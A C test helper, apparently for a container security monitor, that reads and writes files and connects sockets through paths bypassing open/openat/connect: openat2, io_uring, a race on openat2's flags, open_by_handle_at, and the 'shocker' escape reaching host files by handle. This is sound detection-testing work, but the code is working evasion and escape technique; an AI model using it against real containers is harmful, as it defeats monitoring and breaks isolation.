/*
 * The ways to open a file or connect a socket that do not go through
 * open/openat/connect, as an attacker in a container would use them to read
 * a file unseen. Built static by test_evasions.sh and run in the busybox
 * container; each mode does one thing, reads a byte of what it opened, and
 * exits 0 when the operation succeeded.
 *
 *   openat2 PATH               openat2(AT_FDCWD, PATH, {O_RDONLY})
 *   uring-open PATH            io_uring IORING_OP_OPENAT (liburing)
 *   uring-open2 PATH           io_uring IORING_OP_OPENAT2
 *   uring-open-fixed PATH      IORING_OP_OPENAT into a fixed-file slot
 *   uring-connect IP PORT      io_uring IORING_OP_CONNECT (TCP)
 *   openat2-race PATH N        N openat2 calls while another thread flips the
 *                              struct's access mode between O_RDONLY and
 *                              O_WRONLY (what the kernel copied is not what is
 *                              there at exit); prints reads=R writes=W as the
 *                              opened fds really are
 *   handle PATH                name_to_handle_at + open_by_handle_at, against
 *                              PATH's directory (needs CAP_DAC_READ_SEARCH and
 *                              a filesystem that decodes handles)
 *   handle-write PATH LINE     appends LINE to PATH through open_by_handle_at
 *                              (O_WRONLY|O_APPEND), the handle's mount given by
 *                              PATH itself opened read-only (a file Docker
 *                              bind-mounts: overlayfs has no handles)
 *   name-handle PATH           prints PATH's handle as "TYPE HEX" (run on the host)
 *   shocker MOUNTFILE TYPE HEX open_by_handle_at of that handle against the
 *                              filesystem of MOUNTFILE (a file Docker bind-mounts
 *                              from the host, /etc/hostname): a host file no path
 *                              in the container names, as the "shocker" escape
 *                              reaches it
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <liburing.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

static int read_one(int fd)
{
	char c;

	if (fd < 0)
		return 1;
	if (read(fd, &c, 1) < 0)
		perror("read");
	close(fd);
	return 0;
}

/* Submits one prepared SQE and waits for its completion: its result. */
static int uring_run(struct io_uring *ring)
{
	struct io_uring_cqe *cqe;
	int res;

	if (io_uring_submit(ring) != 1 || io_uring_wait_cqe(ring, &cqe)) {
		perror("io_uring_submit");
		return -EIO;
	}
	res = cqe->res;
	io_uring_cqe_seen(ring, cqe);
	return res;
}

static int uring_open(const char *path, int op)
{
	struct open_how how = { .flags = O_RDONLY };
	struct io_uring ring;
	struct io_uring_sqe *sqe;
	int fd, err = io_uring_queue_init(4, &ring, 0);

	if (err) {
		fprintf(stderr, "io_uring_queue_init: %s\n", strerror(-err));
		return 1;
	}
	sqe = io_uring_get_sqe(&ring);
	if (op == 2)
		io_uring_prep_openat2(sqe, AT_FDCWD, path, &how);
	else if (op == 3) {
		int none = -1;

		if (io_uring_register_files(&ring, &none, 1)) {
			fprintf(stderr, "io_uring_register_files failed\n");
			return 1;
		}
		io_uring_prep_openat_direct(sqe, AT_FDCWD, path, O_RDONLY, 0, 0);
	} else
		io_uring_prep_openat(sqe, AT_FDCWD, path, O_RDONLY, 0);
	fd = uring_run(&ring);
	if (fd < 0) {
		fprintf(stderr, "io_uring open %s: %s\n", path, strerror(-fd));
		return 1;
	}
	io_uring_queue_exit(&ring);
	return op == 3 ? 0 : read_one(fd);
}

static int uring_connect(const char *ip, const char *port)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port)) };
	struct io_uring ring;
	int s, res;

	if (inet_pton(AF_INET, ip, &a.sin_addr) != 1 || io_uring_queue_init(4, &ring, 0))
		return 1;
	s = socket(AF_INET, SOCK_STREAM, 0);
	io_uring_prep_connect(io_uring_get_sqe(&ring), s, (struct sockaddr *)&a, sizeof(a));
	res = uring_run(&ring);
	if (res < 0)
		fprintf(stderr, "io_uring connect: %s\n", strerror(-res));
	io_uring_queue_exit(&ring);
	close(s);
	return res < 0;
}

/* The handle of PATH, opened against its directory's filesystem. */
static int by_handle(const char *path)
{
	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
	char dir[4096];
	const char *slash = strrchr(path, '/');
	int mount_id, mfd, fd;

	snprintf(dir, sizeof(dir), "%.*s", slash && slash != path ? (int)(slash - path) : 1, path);
	h->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0)) {
		perror("name_to_handle_at");
		return 1;
	}
	mfd = open(dir, O_RDONLY | O_DIRECTORY);
	fd = open_by_handle_at(mfd, h, O_RDONLY);
	if (fd < 0)
		perror("open_by_handle_at");
	free(h);
	return read_one(fd);
}

static int handle_write(const char *path, const char *line)
{
	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
	int mount_id, mfd, fd;
	ssize_t n;

	h->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0)) {
		perror("name_to_handle_at");
		return 1;
	}
	mfd = open(path, O_RDONLY);
	fd = open_by_handle_at(mfd, h, O_WRONLY | O_APPEND);
	free(h);
	if (fd < 0) {
		perror("open_by_handle_at");
		return 1;
	}
	n = write(fd, line, strlen(line));
	close(fd);
	return n < 0;
}

static int name_handle(const char *path)
{
	struct file_handle *h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
	int mount_id;

	h->handle_bytes = MAX_HANDLE_SZ;
	if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0)) {
		perror("name_to_handle_at");
		return 1;
	}
	printf("%d ", h->handle_type);
	for (unsigned i = 0; i < h->handle_bytes; i++)
		printf("%02x", h->f_handle[i]);
	printf("\n");
	free(h);
	return 0;
}

static int shocker(const char *mountfile, const char *type, const char *hex)
{
	size_t n = strlen(hex) / 2;
	struct file_handle *h;
	int mfd, fd;

	if (n > MAX_HANDLE_SZ)
		return 1;
	h = malloc(sizeof(*h) + MAX_HANDLE_SZ);
	h->handle_bytes = (unsigned)n;
	h->handle_type = atoi(type);
	for (size_t i = 0; i < n; i++)
		sscanf(hex + 2 * i, "%2hhx", &h->f_handle[i]);
	mfd = open(mountfile, O_RDONLY);
	fd = open_by_handle_at(mfd, h, O_RDONLY);
	if (fd < 0)
		perror("open_by_handle_at");
	free(h);
	return read_one(fd);
}

static struct open_how race_how;
static volatile int race_stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!race_stop)
		__atomic_store_n(&race_how.flags, race_how.flags ^ O_WRONLY, __ATOMIC_RELAXED);
	return NULL;
}

static int openat2_race(const char *path, int n)
{
	pthread_t t;
	int reads = 0, writes = 0;

	race_how.flags = O_RDONLY;
	if (pthread_create(&t, NULL, flipper, NULL))
		return 1;
	for (int i = 0; i < n; i++) {
		int fd = (int)syscall(SYS_openat2, AT_FDCWD, path, &race_how, sizeof(race_how));

		if (fd < 0)
			continue;
		if ((fcntl(fd, F_GETFL) & O_ACCMODE) == O_RDONLY)
			reads++;
		else
			writes++;
		close(fd);
	}
	race_stop = 1;
	pthread_join(t, NULL);
	printf("reads=%d writes=%d\n", reads, writes);
	return 0;
}

int main(int argc, char **argv)
{
	struct open_how how = { .flags = O_RDONLY };

	if (argc < 3)
		goto usage;
	if (!strcmp(argv[1], "openat2"))
		return read_one((int)syscall(SYS_openat2, AT_FDCWD, argv[2], &how, sizeof(how)));
	if (!strcmp(argv[1], "uring-open"))
		return uring_open(argv[2], 1);
	if (!strcmp(argv[1], "uring-open2"))
		return uring_open(argv[2], 2);
	if (!strcmp(argv[1], "uring-open-fixed"))
		return uring_open(argv[2], 3);
	if (!strcmp(argv[1], "uring-connect") && argc > 3)
		return uring_connect(argv[2], argv[3]);
	if (!strcmp(argv[1], "openat2-race") && argc > 3)
		return openat2_race(argv[2], atoi(argv[3]));
	if (!strcmp(argv[1], "handle"))
		return by_handle(argv[2]);
	if (!strcmp(argv[1], "handle-write") && argc > 3)
		return handle_write(argv[2], argv[3]);
	if (!strcmp(argv[1], "name-handle"))
		return name_handle(argv[2]);
	if (!strcmp(argv[1], "shocker") && argc > 4)
		return shocker(argv[2], argv[3], argv[4]);
usage:
	fprintf(stderr, "usage: %s openat2|uring-open|uring-open2|uring-open-fixed|handle PATH | "
			"uring-connect IP PORT | handle-write PATH LINE | name-handle PATH | "
			"shocker MOUNTFILE TYPE HEX\n", argv[0]);
	return 2;
}
